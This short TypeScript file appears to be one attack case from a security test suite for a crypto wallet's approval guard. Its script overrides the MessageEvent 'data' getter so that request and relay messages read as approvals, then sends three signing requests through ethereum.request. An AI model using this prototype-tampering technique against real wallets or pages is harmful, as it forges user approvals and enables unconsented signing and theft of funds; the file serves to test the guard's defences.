import type { Attack } from './kit/attack.ts'

export default {
  family: 'stolen-port',
  how: "Replaces the getter of MessageEvent's data, so that every message to the guard reads as an approval.",
  script: `
    const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    Object.defineProperty(MessageEvent.prototype, 'data', {
      configurable: true,
      get() {
        const data = get.call(this)
        return data?.type?.startsWith?.('request.') || data?.type?.startsWith?.('relay.') ? { ...data, type: 'request.forward' } : data
      },
    })
    for (let i = 0; i < 3; i++) ethereum.request(attack.sign)
    await attack.sleep(300)
  `,
} satisfies Attack
